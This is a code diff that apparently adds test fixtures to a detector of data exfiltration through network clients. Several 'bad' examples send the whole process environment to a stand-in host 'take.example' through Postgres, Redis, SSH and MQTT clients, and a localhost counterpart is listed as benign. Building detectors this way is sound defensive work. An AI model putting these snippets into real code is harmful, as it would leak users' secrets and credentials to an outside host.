@@ -63,8 +63,33 @@ export const throughClients: DetectorExamples = {
       why: 'a function of the file, called by a timer',
       attributes: sent,
     },
+    {
+      code: "import pg from 'pg'; const replica = new pg.Pool({ host: 'take.example' }); export const keep = () => replica.query('INSERT INTO kept VALUES ($1)', [JSON.stringify(process.env)]);",
+      why: 'a database whose host stands where its client is made',
+      attributes: sent,
+    },
+    {
+      code: "import { createClient } from 'redis'; const store = createClient({ url: 'redis://take.example' }); store.set('all', JSON.stringify(process.env));",
+      why: 'a method with an ordinary name, of a client that is known',
+      attributes: sent,
+    },
+    {
+      code: "import { Client } from 'ssh2'; const client = new Client(); client.connect({ host: 'take.example' }); client.exec('cat > kept <<< ' + JSON.stringify(process.env), () => {});",
+      why: 'a client that is told where to after it was made',
+      attributes: sent,
+    },
+    {
+      path: 'x.py',
+      code: 'import json, os\nimport paho.mqtt.client as mqtt\nclient = mqtt.Client()\nclient.connect("take.example")\nclient.publish("all", json.dumps(dict(os.environ)))',
+      why: 'the same in Python, with the host by itself',
+      attributes: sent,
+    },
   ],
   good: [
+    {
+      code: "import { createClient } from 'redis'; createClient({ url: 'redis://127.0.0.1' }).set('all', JSON.stringify(process.env));",
+      why: 'a store of this machine',
+    },
     {
       code: "const wait = (done) => setTimeout(done, 20, process.env.ACME_TOKEN); const has = Object.prototype.hasOwnProperty.call(process.env, 'ACME_TOKEN');",
       why: 'functions that stay in the program',
